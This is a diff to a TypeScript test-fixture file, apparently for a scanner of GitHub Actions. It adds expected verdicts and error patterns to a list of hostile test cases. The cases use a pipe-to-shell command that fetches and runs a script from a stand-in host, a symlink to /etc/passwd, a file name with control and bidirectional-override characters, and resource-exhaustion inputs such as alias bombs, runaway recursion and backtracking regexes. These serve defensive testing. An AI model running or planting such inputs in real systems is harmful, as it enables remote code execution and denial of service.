@@ -13,6 +13,8 @@ export interface Hostile {
   readonly kinds?: readonly string[];
   /** Each is in one of the opaque marks. */
   readonly marks?: readonly RegExp[];
+  /** The files that coverage says are missing. */
+  readonly missing?: readonly string[];
   /** The tree is refused: the error. */
   readonly error?: RegExp;
   readonly timeMs?: number;
@@ -22,6 +24,7 @@ export interface Hostile {
 /** What most of them do, beside what is to hide it. */
 export const INSTALL = 'curl -sSL https://a.example/install.sh | sh';
 const FOUND = ['remote-script'];
+const ODD_NAME = 'a\u001b[2J\u202e| <b> ``` @octocat.sh';
 
 function composite(script: string, shell = 'bash'): string {
   const body = script.replace(/^/gm, '        ');
@@ -92,6 +95,7 @@ export const HOSTILE: readonly Hostile[] = [
       { path: 'r/b', type: 'SymbolicLink', linkpath: 'a' },
     ),
     verdict: 'unknown',
+    missing: ['a'],
   },
   {
     name: 'a link to a secret of the machine',
@@ -100,17 +104,20 @@ export const HOSTILE: readonly Hostile[] = [
       { path: 'r/x.sh', type: 'SymbolicLink', linkpath: '/etc/passwd' },
     ),
     verdict: 'unknown',
+    missing: ['x.sh'],
   },
   // YAML
   {
     name: 'an alias bomb',
     files: () => ({ 'action.yml': `${aliasBomb(9)}\n${composite(INSTALL)}` }),
     verdict: 'unknown',
+    marks: [/more than 200000 values/],
   },
   {
     name: 'YAML nested deeply',
     files: () => ({ 'action.yml': `name: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n` }),
     verdict: 'unknown',
+    marks: [/nested more than 200 deep/],
   },
   {
     name: '100,000 steps',
@@ -118,6 +125,9 @@ export const HOSTILE: readonly Hostile[] = [
       'action.yml': `name: x\nruns:\n  using: composite\n  steps:\n${`    - run: ${INSTALL}\n      shell: bash\n`.repeat(100_000)}`,
     }),
     timeMs: 1_000,
+    verdict: 'gapped',
+    kinds: FOUND,
+    marks: [/time budget|more than 200000 values/],
   },
   {
     name: 'names of properties of objects',
@@ -127,11 +137,23 @@ export const HOSTILE: readonly Hostile[] = [
     verdict: 'gapped',
     kinds: FOUND,
   },
-  { name: 'not YAML', files: () => ({ 'action.yml': '\u0000\u0001{{{' }), verdict: 'unknown' },
-  { name: 'an empty action.yml', files: () => ({ 'action.yml': '' }), verdict: 'unknown' },
+  {
+    name: 'not YAML',
+    files: () => ({ 'action.yml': '\u0000\u0001{{{' }),
+    verdict: 'unknown',
+    marks: [/runs.using is missing/],
+  },
+  {
+    name: 'an empty action.yml',
+    files: () => ({ 'action.yml': '' }),
+    verdict: 'unknown',
+    marks: [/no action metadata/],
+  },
   {
     name: 'an expression nested deeply',
     files: bash(`echo \${{ ${'('.repeat(20_000)}1${')'.repeat(20_000)} }}\n${INSTALL}`),
+    verdict: 'gapped',
+    kinds: FOUND,
   },
   // shell
   {
@@ -144,6 +166,9 @@ export const HOSTILE: readonly Hostile[] = [
     name: 'substitutions in substitutions',
     files: bash(`echo ${'$('.repeat(5_000)}x${')'.repeat(5_000)}\n${INSTALL}`),
     timeMs: 5_000,
+    verdict: 'gapped',
+    kinds: FOUND,
+    marks: [/nesting depth/],
   },
   {
     name: 'braces that multiply',
@@ -157,13 +182,25 @@ export const HOSTILE: readonly Hostile[] = [
     verdict: 'gapped',
     kinds: FOUND,
   },
-  { name: 'a loop without end', files: bash(`while true; do x=$x$x; done\n${INSTALL}`) },
+  {
+    name: 'a loop without end',
+    files: bash(`while true; do x=$x$x; done\n${INSTALL}`),
+    verdict: 'gapped',
+    kinds: FOUND,
+  },
   {
     name: 'a string that doubles',
     files: bash(`x=aaaaaaaaaaaaaaaa\n${'x=$x$x\n'.repeat(60)}${INSTALL}`),
     timeMs: 5_000,
+    verdict: 'gapped',
+    kinds: FOUND,
   },
-  { name: 'a function that calls itself', files: bash(`f() { f; f; }\nf\n${INSTALL}`) },
+  {
+    name: 'a function that calls itself',
+    files: bash(`f() { f; f; }\nf\n${INSTALL}`),
+    verdict: 'unknown',
+    marks: [/more than 30000 steps/],
+  },
   {
     name: 'a script that calls itself',
     files: () => ({
@@ -186,7 +223,7 @@ export const HOSTILE: readonly Hostile[] = [
     files: bash(`${'if [ "$A" = "$B" ]; then x=$A; else y=$B; fi\n'.repeat(10_000)}${INSTALL}`),
     timeMs: 1_000,
   },
-  { name: 'here-documents that do not end', files: bash(`${'cat <<A\n'.repeat(2_000)}`) },
+  { name: 'here-documents that do not end', files: bash(`${'cat <<A\n'.repeat(2_000)}`), verdict: 'clean' },
   // JavaScript
   {
     name: 'arrays in arrays',
@@ -194,7 +231,12 @@ export const HOSTILE: readonly Hostile[] = [
     verdict: 'unknown',
     marks: [/stack space|depth/],
   },
-  { name: 'operators in a row', files: node(() => `${RUN}x=${'1+'.repeat(100_000)}1`) },
+  {
+    name: 'operators in a row',
+    files: node(() => `${RUN}x=${'1+'.repeat(100_000)}1`),
+    verdict: 'gapped',
+    kinds: FOUND,
+  },
   {
     name: 'a line of five megabytes',
     files: node(() => `${RUN}x="${'a'.repeat(5_000_000)}"`),
@@ -217,17 +259,24 @@ export const HOSTILE: readonly Hostile[] = [
     name: 'a function that calls itself for ever',
     files: node(() => `${RUN}function f(a){return f(a+1)+f(a+2)}f(0)`),
     timeMs: 5_000,
+    verdict: 'gapped',
+    kinds: FOUND,
   },
   {
     name: 'loops in loops',
     files: node(() => `${RUN}for(let i=0;i<3e9;i++)for(let j=0;j<3e9;j++)for(let k=0;k<3e9;k++){}`),
     timeMs: 5_000,
+    verdict: 'gapped',
+    kinds: FOUND,
+    marks: [/bound on evaluated code/],
   },
   {
     name: 'a string that grows for ever',
     files: node(() => `${RUN}let s='x'.repeat(1e6);for(let i=0;i<60;i++)s+=s`),
     timeMs: 3_000,
     memoryMb: 512,
+    verdict: 'gapped',
+    kinds: FOUND,
   },
   {
     name: 'repeat, padStart, Array of billions',
@@ -236,6 +285,8 @@ export const HOSTILE: readonly Hostile[] = [
     ),
     timeMs: 3_000,
     memoryMb: 512,
+    verdict: 'gapped',
+    kinds: FOUND,
   },
   {
     name: 'a RegExp that backtracks',
@@ -250,6 +301,8 @@ export const HOSTILE: readonly Hostile[] = [
       () =>
         `${RUN}const o={get a(){return this.a},toString(){return ''+this}};o.a;''+o;new Proxy(o,{get(t,k,r){return r[k]}}).x`,
     ),
+    verdict: 'gapped',
+    kinds: FOUND,
   },
   {
     name: 'a prototype that is its own',
@@ -296,6 +349,15 @@ export const HOSTILE: readonly Hostile[] = [
   { name: 'Python nested deeply', files: bash(`x = ${'('.repeat(5_000)}1${')'.repeat(5_000)}`, 'python') },
   { name: 'PowerShell nested deeply', files: bash(`$x = ${'('.repeat(5_000)}1${')'.repeat(5_000)}`, 'pwsh') },
   // text
+  {
+    name: 'file names of control characters and markup',
+    files: () => ({
+      'action.yml': composite(`bash "$GITHUB_ACTION_PATH"/'${ODD_NAME}'`),
+      [ODD_NAME]: INSTALL,
+    }),
+    verdict: 'gapped',
+    kinds: FOUND,
+  },
   {
     name: 'control characters',
     files: bash(`echo '\u001b[2J\u001b]0;x\u0007'; ${INSTALL}`),
